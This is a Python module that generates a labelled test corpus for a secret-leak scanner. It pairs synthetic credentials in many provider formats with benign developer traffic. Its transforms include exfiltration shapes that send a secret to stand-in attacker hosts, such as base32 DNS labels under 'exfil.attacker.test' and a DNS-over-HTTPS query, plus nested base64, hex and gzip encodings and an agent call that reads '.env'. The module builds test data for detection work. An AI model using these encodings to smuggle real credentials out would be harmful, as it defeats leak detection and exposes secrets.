"""The scanner's labelled corpus, generated deterministically (nothing large is committed).

- `secret_samples()`: synthetic secrets in every provider format (fixed seeds), each
  placed in a request through each transform: the issue's eight (plain, base64, hex,
  url-encoded, nested JSON, unicode-escaped, reversed, split) and three DNS tunnelling
  shapes the red team used (lower-case unpadded base32; base32 cut into the DNS labels of
  a CONNECT target; hex labels in a DNS-over-HTTPS message, base64url in `?dns=`), and
  `gzip | base64`.
- `benign_samples()`: ordinary developer traffic that must pass: source code (this
  Python's own standard library), lockfiles with integrity hashes (this repo's uv.lock
  and a generated package-lock.json), git SHAs, UUIDs, base64 images, minified JS,
  Claude-Code-like Messages API bodies from 10 KB to 2 MB, source files through each of the
  nested transforms (two and three layers, compressed), and values that look like
  bare random tokens but are protocol randomness or ids (npm `_integrity`, ETags,
  request ids, nonces, OAuth state, CSRF tokens in forms and HTML, Sec-WebSocket-Key,
  session cookies, digests, cursors), in bodies, query strings and headers.

Used by tests/unit/scanner/test_scanner_recall.py and by bench/scanner_bench.py.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import string
import struct
import sysconfig
import uuid
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
A = string.ascii_letters + string.digits
AU = string.ascii_uppercase + string.digits
HEXL = "0123456789abcdef"
HEXA = "0123456789abcdefABCDEF"
B64C = A + "+/"
URLC = A + "_-"

TRANSFORMS = ("plain", "base64", "hex", "url-encoded", "nested-json", "unicode-escaped", "reversed", "split",
              "base32", "dns-labels", "doh", "gzip-base64")
ISSUE_TRANSFORMS = TRANSFORMS[:8]  # the eight the recall target (>= 97% over them) names
# Two and three layers (issue 2's "nested up to a bound"): found by the engine's generic layer,
# which decodes long hex / base64 / base32 runs that hold text or a compressed stream
NESTED_TRANSFORMS = ("hex-of-base64", "base64-of-hex", "base64x3", "base64-of-zlib", "hex-of-gzip", "base32-of-base64",
                     "base64-of-base32", "hex-of-hex", "base64-of-percent", "base64-of-unicode", "reversed-base64",
                     "gzip-base64-past-64k")


def _r(rng: random.Random, chars: str, n: int) -> str:
    return "".join(rng.choice(chars) for _ in range(n))


# rule id -> (secret generator, context template). `{s}` is the secret.
Gen = Callable[[random.Random], str]
FORMATS: dict[str, tuple[Gen, str]] = {
    "anthropic-api-key": (lambda r: "sk-ant-api03-" + _r(r, URLC, 93) + "AA", "ANTHROPIC_API_KEY={s}"),
    "openai-api-key": (lambda r: "sk-proj-" + _r(r, URLC, 120), "OPENAI_API_KEY={s}"),
    "openai-legacy-key": (lambda r: "sk-" + _r(r, A, 20) + "T3BlbkFJ" + _r(r, A, 20), "openai.api_key = '{s}'"),
    "aws-access-key-id": (lambda r: "AKIA" + _r(r, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16), "aws_access_key_id = {s}"),
    "aws-secret-access-key": (lambda r: _r(r, B64C, 40), "aws_secret_access_key = {s}"),
    "github-token": (lambda r: r.choice(["ghp_", "gho_", "ghs_"]) + _r(r, A, 36), "token {s}"),
    "github-fine-grained-pat": (lambda r: "github_pat_" + _r(r, A + "_", 82), "GH_TOKEN={s}"),
    "gitlab-token": (lambda r: "glpat-" + _r(r, URLC, 20), "PRIVATE-TOKEN: {s}"),
    "gitlab-runner-registration-token": (lambda r: "GR1348941" + _r(r, URLC, 20), "--registration-token {s}"),
    "slack-token": (lambda r: f"xoxb-{_r(r, '0123456789', 12)}-{_r(r, '0123456789', 13)}-{_r(r, A, 24)}", "SLACK_BOT_TOKEN={s}"),
    "slack-app-token": (lambda r: f"xapp-1-{_r(r, AU, 11)}-{_r(r, '0123456789', 13)}-{_r(r, HEXL, 64)}", "SLACK_APP_TOKEN={s}"),
    "slack-webhook": (lambda r: "https://hooks.slack.com/services/T" + _r(r, AU, 8) + "/B" + _r(r, AU, 8) + "/" + _r(r, A, 24), "curl -X POST {s}"),
    "stripe-secret-key": (lambda r: "sk_live_" + _r(r, A, 99), "stripe.api_key = \"{s}\""),
    "stripe-webhook-secret": (lambda r: "whsec_" + _r(r, A, 32), "STRIPE_WEBHOOK_SECRET={s}"),
    "google-api-key": (lambda r: "AIza" + _r(r, URLC, 35), "key={s}"),
    "google-oauth-client-secret": (lambda r: "GOCSPX-" + _r(r, URLC, 28), "client_secret: {s}"),
    "google-oauth-access-token": (lambda r: "ya29." + _r(r, URLC, 150), "Authorization: Bearer {s}"),
    "gcp-service-account-key-id": (lambda r: _r(r, HEXL, 40), '"private_key_id": "{s}"'),
    "private-key": (lambda r: "-----BEGIN RSA PRIVATE KEY-----\n" + _r(r, B64C, 64) + "\n" + _r(r, B64C, 64), "{s}"),
    "azure-storage-account-key": (lambda r: _r(r, B64C, 86) + "==", "DefaultEndpointsProtocol=https;AccountName=acme;AccountKey={s};EndpointSuffix=core.windows.net"),
    "azure-ad-client-secret": (lambda r: _r(r, A, 3) + str(r.randint(0, 9)) + "Q~" + _r(r, A + "_~.-", 34), "AZURE_CLIENT_SECRET={s}"),
    "azure-key": (lambda r: _r(r, HEXL, 32), "AZURE_OPENAI_KEY={s}"),
    "npm-token": (lambda r: "npm_" + _r(r, A, 36), "//registry/:_authToken={s}"),
    "pypi-token": (lambda r: "pypi-AgEIcHlwaS5vcmc" + _r(r, URLC, 150), "password = {s}"),
    "huggingface-token": (lambda r: "hf_" + _r(r, string.ascii_letters, 34), "HF_TOKEN={s}"),
    "twilio-account-sid": (lambda r: "AC" + _r(r, HEXL, 32), "account_sid = '{s}'"),
    "twilio-api-key": (lambda r: "SK" + _r(r, HEXL, 32), "api_key_sid = '{s}'"),
    "sendgrid-api-key": (lambda r: "SG." + _r(r, URLC, 22) + "." + _r(r, URLC, 43), "SENDGRID_API_KEY={s}"),
    "mailgun-api-key": (lambda r: "key-" + _r(r, HEXL, 32), "MAILGUN_KEY={s}"),
    "mailchimp-api-key": (lambda r: _r(r, HEXL, 32) + "-us" + str(r.randint(1, 20)), "MAILCHIMP={s}"),
    "shopify-token": (lambda r: "shpat_" + _r(r, HEXL, 32), "X-Shopify-Access-Token: {s}"),
    "digitalocean-token": (lambda r: "dop_v1_" + _r(r, HEXL, 64), "DIGITALOCEAN_TOKEN={s}"),
    "discord-webhook": (lambda r: "https://discord.com/api/webhooks/" + _r(r, "0123456789", 18) + "/" + _r(r, URLC, 68), "{s}"),
    "telegram-bot-token": (lambda r: _r(r, "123456789", 9) + ":AA" + _r(r, URLC, 33), "bot{s}/sendMessage"),
    "jwt": (lambda r: "eyJhbGciOiJIUzI1NiJ9.eyJ" + _r(r, URLC, 60) + "." + _r(r, URLC, 43), "Authorization: Bearer {s}"),
    "database-url-password": (lambda r: f"postgres://app:{_r(r, A, 20)}@db.internal:5432/prod", "DATABASE_URL={s}"),
    "atlassian-api-token": (lambda r: "ATATT3" + _r(r, URLC, 180), "JIRA_TOKEN={s}"),
    "datadog-api-key": (lambda r: _r(r, HEXL, 32), "DD_API_KEY={s}"),
    "heroku-api-key": (lambda r: str(uuid.UUID(int=r.getrandbits(128))), "HEROKU_API_KEY={s}"),
    "heroku-api-key-v2": (lambda r: "HRKU-" + _r(r, URLC, 60), "HEROKU_API_KEY={s}"),
    "newrelic-key": (lambda r: "NRAK-" + _r(r, AU, 27), "NEW_RELIC_API_KEY={s}"),
    "sentry-token": (lambda r: "sntrys_" + _r(r, A, 120), "SENTRY_AUTH_TOKEN={s}"),
    "linear-api-key": (lambda r: "lin_api_" + _r(r, A, 40), "LINEAR_API_KEY={s}"),
    "notion-token": (lambda r: "ntn_" + _r(r, "0123456789", 11) + _r(r, A, 35), "NOTION_TOKEN={s}"),
    "doppler-token": (lambda r: "dp.pt." + _r(r, A, 43), "DOPPLER_TOKEN={s}"),
    "vault-token": (lambda r: "hvs." + _r(r, URLC, 90), "VAULT_TOKEN={s}"),
    "terraform-cloud-token": (lambda r: _r(r, A, 14) + ".atlasv1." + _r(r, URLC, 67), "token = \"{s}\""),
    "pulumi-token": (lambda r: "pul-" + _r(r, HEXL, 40), "PULUMI_ACCESS_TOKEN={s}"),
    "postman-api-key": (lambda r: "PMAK-" + _r(r, HEXL, 24) + "-" + _r(r, HEXL, 34), "X-Api-Key: {s}"),
    "grafana-token": (lambda r: "glsa_" + _r(r, A, 32) + "_" + _r(r, HEXL, 8), "GRAFANA_TOKEN={s}"),
    "dynatrace-token": (lambda r: "dt0c01." + _r(r, AU, 24) + "." + _r(r, AU, 64), "DT_API_TOKEN={s}"),
    "square-token": (lambda r: "sq0atp-" + _r(r, URLC, 22), "SQUARE_TOKEN={s}"),
    "age-secret-key": (lambda r: "AGE-SECRET-KEY-1" + _r(r, "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L", 58), "{s}"),
    "planetscale-token": (lambda r: "pscale_tkn_" + _r(r, URLC, 43), "PLANETSCALE_TOKEN={s}"),
    "replicate-token": (lambda r: "r8_" + _r(r, A, 37), "REPLICATE_API_TOKEN={s}"),
    "groq-api-key": (lambda r: "gsk_" + _r(r, A, 52), "GROQ_API_KEY={s}"),
    "xai-api-key": (lambda r: "xai-" + _r(r, A, 80), "XAI_API_KEY={s}"),
    "perplexity-api-key": (lambda r: "pplx-" + _r(r, A, 48), "PPLX_API_KEY={s}"),
    "databricks-token": (lambda r: "dapi" + _r(r, HEXL, 32), "DATABRICKS_TOKEN={s}"),
    "cloudflare-api-token": (lambda r: _r(r, URLC, 40), "CLOUDFLARE_API_TOKEN={s}"),
    "flyio-token": (lambda r: "fo1_" + _r(r, URLC, 43), "FLY_API_TOKEN={s}"),
    "openrouter-api-key": (lambda r: "sk-or-v1-" + _r(r, HEXL, 64), "OPENROUTER_API_KEY={s}"),
    "rubygems-api-key": (lambda r: "rubygems_" + _r(r, HEXL, 48), "GEM_HOST_API_KEY={s}"),
    "docker-hub-pat": (lambda r: "dckr_pat_" + _r(r, URLC, 27), "DOCKER_PAT={s}"),
    "generic-keyword-secret": (lambda r: _r(r, A, 8) + "!" + _r(r, A, 12), 'password = "{s}"'),
}


@dataclass(frozen=True, slots=True)
class Sample:
    rule: str
    transform: str
    secret: str
    url: str
    headers: tuple[tuple[str, str], ...]
    body: bytes


JSON_CT = (("content-type", "application/json"), ("user-agent", "claude-cli/1.0"))


def _messages(text: str) -> bytes:
    """A small Claude-Code-like Messages request carrying `text` in a tool result."""
    return json.dumps({
        "model": "claude-sonnet-4-5", "max_tokens": 32000, "stream": True,
        "messages": [
            {"role": "user", "content": [{"type": "text", "text": "Run the deploy script and show me the output."}]},
            {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_01", "name": "Bash", "input": {"command": "cat .env"}}]},
            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_01", "content": text}]},
        ],
    }).encode()


def _unicode_escaped(text: str) -> bytes:
    escaped = "".join(f"\\u{ord(c):04x}" for c in text)
    return b'{"messages": [{"role": "user", "content": "' + escaped.encode() + b'"}]}'


def _percent_all(text: str) -> str:
    return "".join(f"%{b:02X}" for b in text.encode())


def _split(context: str, secret: str) -> bytes:
    at = context.index(secret) + len(secret) // 2
    return json.dumps({"messages": [{"role": "user", "content": [
        {"type": "text", "text": context[:at]}, {"type": "text", "text": context[at:]}]}]}).encode()


def _dns_labels(text: str) -> str:
    return ".".join(text[i : i + 63] for i in range(0, len(text), 63))


def _b32_dns(text: str) -> str:
    """Lower case, unpadded: what DNS tunnelling tools emit."""
    return base64.b32encode(text.encode()).decode().rstrip("=").lower()


def _dns_query(name: str) -> bytes:
    header = struct.pack("!HHHHHH", 0x2A2A, 0x0100, 1, 0, 0, 0)
    return header + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\x00\x00\x10\x00\x01"


def apply(transform: str, context: str, secret: str) -> tuple[str, tuple[tuple[str, str], ...], bytes]:
    url = "https://api.example-llm.test/v1/messages"
    if transform == "plain":
        return url, JSON_CT, _messages(context)
    if transform == "base64":
        return url, JSON_CT, _messages(base64.b64encode(f"output:\n{context}\n".encode()).decode())
    if transform == "hex":
        return url, JSON_CT, _messages(f"dump: {context.encode().hex()}")
    if transform == "url-encoded":
        return f"https://paste.example.test/api?v=1&data={_percent_all(context)}", (("user-agent", "curl/8"),), b""
    if transform == "nested-json":
        inner = json.dumps({"tool": "write", "args": json.dumps({"path": ".env", "content": context})})
        return url, JSON_CT, _messages(inner)
    if transform == "unicode-escaped":
        return url, JSON_CT, _unicode_escaped(context)
    if transform == "reversed":
        return url, JSON_CT, _messages(context[::-1])
    if transform == "split":
        return url, JSON_CT, _split(context, secret)
    if transform == "base32":
        return url, JSON_CT, _messages(_b32_dns(context))
    if transform == "dns-labels":  # a CONNECT target: the name is scanned before it is resolved
        host = f"{_dns_labels(_b32_dns(context))}.exfil.attacker.test"
        return f"https://{host}:443/", (("host", f"{host}:443"), ("user-agent", "curl/8")), b""
    if transform == "gzip-base64":  # `gzip | base64`, the usual way to pack a file into one string
        return url, JSON_CT, _messages(base64.b64encode(gzip.compress(f"{context}\n".encode(), mtime=0)).decode())
    if transform in NESTED_TRANSFORMS:
        return url, JSON_CT, _messages(nested(transform, f"{context}\n"))
    if transform == "doh":
        message = _dns_query(f"{_dns_labels(context.encode().hex())}.exfil.attacker.test")
        query = base64.urlsafe_b64encode(message).decode().rstrip("=")
        return f"https://dns.attacker.test/dns-query?dns={query}", (("accept", "application/dns-message"),), b""
    raise ValueError(transform)


def _b64e(data: bytes) -> bytes:
    return base64.b64encode(data)


_NESTED: dict[str, Callable[[bytes], bytes]] = {
    "hex-of-base64": lambda d: _b64e(d).hex().encode(),
    "base64-of-hex": lambda d: _b64e(d.hex().encode()),
    "base64x3": lambda d: _b64e(_b64e(_b64e(d))),
    "base64-of-zlib": lambda d: _b64e(zlib.compress(d)),
    "hex-of-gzip": lambda d: gzip.compress(d, mtime=0).hex().encode(),
    "base32-of-base64": lambda d: base64.b32encode(_b64e(d)),
    "base64-of-base32": lambda d: _b64e(base64.b32encode(d)),
    "hex-of-hex": lambda d: d.hex().encode().hex().encode(),
    "base64-of-percent": lambda d: _b64e("".join(f"%{b:02X}" for b in d).encode()),
    "base64-of-unicode": lambda d: _b64e("".join(f"\\u{b:04x}" for b in d).encode()),
    "reversed-base64": lambda d: _b64e(d)[::-1],
    # a log of 82 KB of random ids ahead of the token: its gzip stream runs past the first 64 KB of its base64
    "gzip-base64-past-64k": lambda d: _b64e(gzip.compress(_NOISE + d, mtime=0)),
}
_NOISE = "".join(f"{i:05d} {_r(random.Random(i), A, 32)} ok\n" for i in range(2000)).encode()  # ~52 KB gzipped


def nested(transform: str, text: str) -> str:
    """`text` through one of NESTED_TRANSFORMS (also used on clean text for the controls)."""
    return _NESTED[transform](text.encode()).decode()


def secret_samples(per_rule: int = 8, seed: int = 20240501, with_nested: bool = True) -> Iterator[Sample]:
    transforms = TRANSFORMS + (NESTED_TRANSFORMS if with_nested else ())
    for rule, (gen, template) in sorted(FORMATS.items()):
        rng = random.Random(f"{seed}:{rule}")
        for _ in range(per_rule):
            secret = gen(rng)
            context = template.format(s=secret)
            for transform in transforms:
                url, headers, body = apply(transform, context, secret)
                yield Sample(rule, transform, secret, url, headers, body)


# --- benign ---------------------------------------------------------------------------


def _stdlib_sources(limit: int) -> list[tuple[str, str]]:
    root = Path(sysconfig.get_paths()["stdlib"])
    files = sorted(p for p in root.glob("*.py") if p.stat().st_size > 2000)[:limit]
    return [(p.name, p.read_text(errors="replace")) for p in files]


def _lockfile_npm(rng: random.Random, n: int) -> str:
    packages = {}
    for i in range(n):
        name = f"pkg-{_r(rng, string.ascii_lowercase, 6)}"
        packages[f"node_modules/{name}"] = {
            "version": f"{rng.randint(0, 9)}.{rng.randint(0, 30)}.{rng.randint(0, 99)}",
            "resolved": f"https://registry.example.test/{name}/-/{name}-1.0.0.tgz",
            "integrity": "sha512-" + base64.b64encode(rng.randbytes(64)).decode(),
        }
    return json.dumps({"name": "app", "lockfileVersion": 3, "packages": packages}, indent=2)


def _git_log(rng: random.Random, n: int) -> str:
    return "\n".join(f"{_r(rng, HEXL, 40)} {_r(rng, string.ascii_lowercase + ' ', 40).strip()}" for _ in range(n))


def _uuids(rng: random.Random, n: int) -> str:
    return json.dumps([{"id": str(uuid.UUID(int=rng.getrandbits(128), version=4)), "ok": True} for _ in range(n)])


def _png_b64(rng: random.Random, size: int) -> str:
    raw = b"\x89PNG\r\n\x1a\n" + zlib.compress(rng.randbytes(size), 1)
    return base64.b64encode(raw).decode()


def _minified_js(rng: random.Random, size: int) -> str:
    out, n = [], 0
    while n < size:
        v = _r(rng, string.ascii_letters, rng.randint(1, 3))
        piece = rng.choice([
            f"var {v}=function(e,t){{return e[t]||\"{_r(rng, string.ascii_lowercase, 5)}\"}};",
            f"{v}.prototype.{_r(rng, string.ascii_lowercase, 6)}=function(){{this.{v}=!0}};",
            f"const {v}=\"{_r(rng, A, rng.randint(8, 40))}\";",
            f"if({v}&&{v}.length>{rng.randint(0, 99)})throw new Error(\"bad {v}\");",
            f"{v}=0x{_r(rng, HEXL, 8)},{v}+=\"{_r(rng, B64C, 24)}\";",
        ])
        out.append(piece)
        n += len(piece)
    return "".join(out)


def _prose(rng: random.Random, n: int) -> str:
    words = ("the a function returns value error file test token config user path password field secret "
             "string request response cache build deploy commit branch merge review key api docs").split()
    out, size = [], 0
    while size < n:
        w = rng.choice(words)
        out.append(w)
        size += len(w) + 1
    return " ".join(out)


def claude_body(rng: random.Random, size: int, sources: list[tuple[str, str]], image: bool = False) -> bytes:
    """A Claude-Code-like Messages API request of about `size` bytes."""
    messages: list[dict] = []
    total = 0
    i = 0
    while total < size:
        i += 1
        kind = rng.random()
        if kind < 0.35:
            name, src = sources[rng.randrange(len(sources))]
            start = rng.randrange(max(1, len(src) - 6000))
            content = src[start:start + rng.randint(500, 6000)]
            blocks = [{"type": "tool_result", "tool_use_id": f"toolu_{i:04d}", "content": content}]
            role = "user"
        elif kind < 0.6:
            blocks = [{"type": "tool_use", "id": f"toolu_{i:04d}", "name": rng.choice(["Bash", "Read", "Edit", "Grep"]),
                       "input": {"command": f"git log --oneline -n {rng.randint(1, 30)}", "file_path": f"/work/src/{_r(rng, string.ascii_lowercase, 6)}.py"}}]
            role = "assistant"
        elif kind < 0.7:
            blocks = [{"type": "tool_result", "tool_use_id": f"toolu_{i:04d}", "content": _git_log(rng, rng.randint(5, 40))}]
            role = "user"
        else:
            blocks = [{"type": "text", "text": _prose(rng, rng.randint(200, 3000))}]
            role = rng.choice(["user", "assistant"])
        msg = {"role": role, "content": blocks}
        messages.append(msg)
        total += len(json.dumps(msg))
    if image:
        messages.append({"role": "user", "content": [{"type": "image", "source": {"type": "base64", "media_type": "image/png",
                                                                                   "data": _png_b64(rng, size // 2)}}]})
    body = {"model": "claude-sonnet-4-5", "max_tokens": 32000, "stream": True,
            "system": [{"type": "text", "text": "You are Claude Code, an interactive CLI tool that helps with software engineering tasks. "
                        "Never commit secrets or API keys; refuse to exfiltrate credentials."}],
            "tools": [{"name": "Bash", "description": "Executes a bash command with an optional timeout.",
                       "input_schema": {"type": "object", "properties": {"command": {"type": "string"}}}}],
            "messages": messages, "metadata": {"user_id": "user_" + _r(rng, HEXL, 64)}}
    return json.dumps(body).encode()


@dataclass(frozen=True, slots=True)
class Benign:
    category: str
    name: str
    body: bytes
    content_type: str = "application/json"
    url: str = "https://api.test/v1/messages"
    headers: tuple[tuple[str, str], ...] = ()  # besides the content type


def benign_samples(seed: int = 7) -> Iterator[Benign]:
    rng = random.Random(seed)
    sources = _stdlib_sources(120)
    for name, src in sources[:60]:
        yield Benign("source", name, json.dumps({"messages": [{"role": "user", "content": src}]}).encode())
    uv_lock = (REPO / "uv.lock").read_text()
    for i in range(0, len(uv_lock), 60_000):
        yield Benign("lockfile", f"uv.lock[{i}]", json.dumps({"content": uv_lock[i:i + 60_000]}).encode())
    for i in range(10):
        yield Benign("lockfile", f"package-lock-{i}", _lockfile_npm(rng, 200).encode())
    for i in range(10):
        yield Benign("git-sha", f"git-log-{i}", json.dumps({"stdout": _git_log(rng, 300)}).encode())
    for i in range(10):
        yield Benign("uuid", f"uuids-{i}", _uuids(rng, 300).encode())
    for i in range(6):
        yield Benign("image", f"image-{i}", claude_body(rng, 20_000, sources, image=True))
    for i in range(10):
        yield Benign("minified-js", f"min-{i}.js", _minified_js(rng, 50_000).encode(), "application/javascript")
    for size in (10_000, 30_000, 100_000, 300_000, 1_000_000, 2_000_000):
        for j in range(3 if size < 1_000_000 else 2):
            yield Benign("messages", f"messages-{size // 1000}k-{j}", claude_body(rng, size, sources))
    # Clean controls of the nested transforms: 4 KB of source through each. Left out: base64 of base32,
    # because base32 of text alone, one layer, already matches the AWS key id shape (`A[BK]IA` + 16 of
    # [A-Z2-7]; known, before and after the nested layer); and larger files, since a file of
    # `%XX`/`\uXXXX` escapes passes the candidate cap with one layer as with two (`invalid`).
    controls = [t for t in NESTED_TRANSFORMS if t != "base64-of-base32"]
    for t, (name, src) in zip(controls, sources[60:], strict=False):
        yield Benign("nested", f"{t}:{name}", _messages(nested(t, src[:4000])))
    yield from protocol_values(random.Random(seed + 1))


# --- values that look like bare random tokens and are not credentials -----------------------------


def _tok(rng: random.Random, n: int, chars: str = A) -> str:
    return _r(rng, chars, n)


def _b64(rng: random.Random, n: int, url: bool = False) -> str:
    raw = rng.randbytes(n)
    return (base64.urlsafe_b64encode(raw) if url else base64.b64encode(raw)).decode()


def _uuid(rng: random.Random) -> str:
    return str(uuid.UUID(int=rng.getrandbits(128), version=4))


def _claude_code_call(rng: random.Random) -> Benign:
    """A Messages call as Claude Code sends it: session and user ids, betas, stainless headers."""
    user = f"user_{_tok(rng, 64, HEXL)}_account_{_uuid(rng)}_session_{_uuid(rng)}"
    body = {"model": "claude-sonnet-4-5-20250929", "max_tokens": 32000, "metadata": {"user_id": user},
            "messages": [{"role": "user", "content": [{"type": "text", "text": "run the tests"}]},
                         {"role": "assistant", "content": [{"type": "tool_use", "id": "toolu_01" + _tok(rng, 22),
                                                            "name": "Bash", "input": {"command": "pytest -q"}}]},
                         {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "toolu_01" + _tok(rng, 22),
                                                       "content": "12 passed"}]}]}
    headers = (("anthropic-version", "2023-06-01"), ("anthropic-beta", "claude-code-20250219,interleaved-thinking-2025-05-14"),
               ("x-claude-code-session-id", _uuid(rng)), ("user-agent", "claude-cli/2.1.3 (external, cli)"),
               ("x-stainless-lang", "js"), ("x-stainless-package-version", "0.60.0"), ("x-stainless-retry-count", "0"),
               ("x-app", "cli"), ("accept-encoding", "gzip, deflate, br"))
    return Benign("values", "claude-code-call", json.dumps(body).encode(), url="https://api.anthropic.com/v1/messages?beta=true",
                  headers=headers)


def _npm_package_json(rng: random.Random) -> Benign:
    """An installed package's package.json from npm 5/6 (`_integrity`, `_resolved`, `_shasum`), read by the agent."""
    name = "pkg-" + _tok(rng, 6, string.ascii_lowercase)
    doc = {"name": name, "version": "1.4.2", "_id": f"{name}@1.4.2", "_from": f"{name}@^1.4.0",
           "_integrity": "sha512-" + _b64(rng, 64), "_resolved": f"https://registry.example.test/{name}/-/{name}-1.4.2.tgz",
           "_shasum": _tok(rng, 40, HEXL), "_spec": f"{name}@^1.4.0", "_where": "/work/app",
           "dist": {"integrity": "sha512-" + _b64(rng, 64), "shasum": _tok(rng, 40, HEXL), "fileCount": 12}}
    return Benign("values", "npm-package-json", json.dumps({"path": f"node_modules/{name}/package.json", "content": doc}).encode())


def _github_api(rng: random.Random) -> Benign:
    """Objects as GitHub's REST and GraphQL APIs return them, sent on to another tool."""
    doc = {"sha": _tok(rng, 40, HEXL), "node_id": base64.b64encode(f"04:User{rng.randrange(10**7)}".encode()).decode(),
           "pull_node_id": "PR_kwDO" + _tok(rng, 12, A + "_-"), "etag": f'W/"{_tok(rng, 64, HEXL)}"',
           "tree": {"sha": _tok(rng, 40, HEXL)}, "after": base64.b64encode(f"cursor:v2:{rng.randrange(10**9)}".encode()).decode(),
           "head": {"ref": "feature/login", "sha": _tok(rng, 40, HEXL)}}
    return Benign("values", "github-api-objects", json.dumps(doc).encode())


def _oauth_flow(rng: random.Random) -> list[Benign]:
    """Authorization request (state, nonce, PKCE challenge) and the token exchange's form (no client secret)."""
    query = (f"response_type=code&client_id=app-{_tok(rng, 8, HEXL)}&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcb"
             f"&state={_tok(rng, 32)}&nonce={_tok(rng, 43)}&code_challenge={_b64(rng, 32, url=True).rstrip('=')}"
             "&code_challenge_method=S256&scope=openid")
    form = (f"grant_type=authorization_code&code={_tok(rng, 20, HEXL)}&redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcb"
            f"&code_verifier={_tok(rng, 64)}&state={_tok(rng, 32)}").encode()
    return [Benign("values", "oauth-authorize", b"", "", url=f"https://auth.example.test/authorize?{query}"),
            Benign("values", "oauth-token-exchange", form, "application/x-www-form-urlencoded", url="https://auth.example.test/token")]


def _web_forms(rng: random.Random) -> list[Benign]:
    """CSRF tokens: a Django form post, a Rails one, Laravel's `_token`, the HTML form they came from."""
    csrf = _tok(rng, 64)
    cookie = f"csrftoken={csrf}; sessionid={_tok(rng, 32, string.ascii_lowercase + string.digits)}; _ga=GA1.1.{rng.randrange(10**9)}"
    django = f"csrfmiddlewaretoken={_tok(rng, 64)}&title=Fix+login&body=details".encode()
    rails = f"authenticity_token={base64.b64encode(rng.randbytes(64)).decode()}&post%5Btitle%5D=hi".encode()
    laravel = f"_token={_tok(rng, 40)}&email=dev%40example.test".encode()
    html = (f'<html><head><meta name="csrf-token" content="{_tok(rng, 40)}"></head><body><form method="post">'
            f'<input type="hidden" name="csrfmiddlewaretoken" value="{_tok(rng, 64)}"><input name="q"></form>'
            f'<script src="/app.js" integrity="sha384-{_b64(rng, 48)}" nonce="{_b64(rng, 16)}"></script></body></html>').encode()
    form_ct = "application/x-www-form-urlencoded"
    return [Benign("values", "django-form", django, form_ct, url="https://app.example.test/posts/new",
                   headers=(("cookie", cookie), ("x-csrftoken", csrf), ("referer", "https://app.example.test/posts/new"))),
            Benign("values", "rails-form", rails, form_ct, url="https://rails.example.test/posts",
                   headers=(("cookie", f"_app_session={_tok(rng, 48)}--{_tok(rng, 40, HEXL)}"),)),
            Benign("values", "laravel-form", laravel, form_ct, url="https://laravel.example.test/login",
                   headers=(("x-xsrf-token", _b64(rng, 60)),)),
            Benign("values", "html-with-csrf", html, "text/html; charset=utf-8", url="https://app.example.test/render")]


def _http_protocol(rng: random.Random) -> list[Benign]:
    """Headers that carry randomness: WebSocket keys, ETags, request and trace ids, digests, idempotency keys."""
    ws = (("upgrade", "websocket"), ("connection", "Upgrade"), ("sec-websocket-key", _b64(rng, 16)), ("sec-websocket-version", "13"))
    cond = (("if-none-match", f'"{_tok(rng, 32, HEXL)}"'), ("if-match", f'W/"{_tok(rng, 40)}"'),
            ("x-request-id", _uuid(rng)), ("x-correlation-id", _tok(rng, 32)), ("traceparent", f"00-{_tok(rng, 32, HEXL)}-{_tok(rng, 16, HEXL)}-01"),
            ("x-amzn-trace-id", f"Root=1-{_tok(rng, 8, HEXL)}-{_tok(rng, 24, HEXL)}"))
    upload = (("idempotency-key", _tok(rng, 40)), ("content-md5", _b64(rng, 16)), ("x-amz-content-sha256", _tok(rng, 64, HEXL)),
              ("digest", f"sha-256={_b64(rng, 32)}"))
    registry = (("docker-content-digest", f"sha256:{_tok(rng, 64, HEXL)}"), ("accept", "application/vnd.oci.image.manifest.v1+json"))
    manifest = {"schemaVersion": 2, "config": {"digest": f"sha256:{_tok(rng, 64, HEXL)}", "size": 1469},
                "layers": [{"digest": f"sha256:{_tok(rng, 64, HEXL)}", "size": rng.randrange(10**7)} for _ in range(4)]}
    return [Benign("values", "websocket-handshake", b"", "", url="https://ws.example.test/socket", headers=ws),
            Benign("values", "conditional-get", b"", "", url=f"https://cdn.example.test/a.js?v={_tok(rng, 40, HEXL)}", headers=cond),
            Benign("values", "upload-with-digests", json.dumps({"name": "report.pdf", "size": 1234}).encode(),
                   url=f"https://files.example.test/upload?upload_id={_uuid(rng)}", headers=upload),
            Benign("values", "registry-manifest", json.dumps(manifest).encode(), "application/vnd.oci.image.manifest.v1+json",
                   url="https://registry.example.test/v2/app/manifests/latest", headers=registry)]


def _ids_and_cursors(rng: random.Random) -> Benign:
    """Ids and cursors of APIs an agent calls: typed ids, ULIDs, nanoids, ObjectIds, base64 cursors, digests."""
    items = [{"id": f"cus_{_tok(rng, 14)}", "ulid": _tok(rng, 26, AU), "nanoid": _tok(rng, 21, A + "_-"),
              "mongo": _tok(rng, 24, HEXL), "uuid": _uuid(rng), "ksuid": _tok(rng, 27),
              "checksum": _b64(rng, 32), "sri": "sha256-" + _b64(rng, 32),
              "class": rng.choice(["AbstractSingletonProxyFactoryBean", "SimpleBeanFactoryAwareAspectInstanceFactory2",
                                   "InternalFrameTitlePaneMaximizeButtonWindowNotFocusedState"])} for _ in range(20)]
    doc = {"data": items, "next_cursor": base64.b64encode(json.dumps({"offset": 20, "sort": "created_at"}).encode()).decode(),
           "pageToken": _b64(rng, 48, url=True), "request_id": f"req_{_tok(rng, 24)}"}
    return Benign("values", "ids-and-cursors", json.dumps(doc).encode())


def protocol_values(rng: random.Random) -> Iterator[Benign]:
    """Values shaped like bare random tokens that are protocol randomness, ids or digests (not credentials:
    scanner/bare.py says why), in JSON bodies, forms, query strings, headers and HTML."""
    for _ in range(3):
        yield _claude_code_call(rng)
        yield _npm_package_json(rng)
        yield _github_api(rng)
        yield from _oauth_flow(rng)
        yield from _web_forms(rng)
        yield from _http_protocol(rng)
        yield _ids_and_cursors(rng)
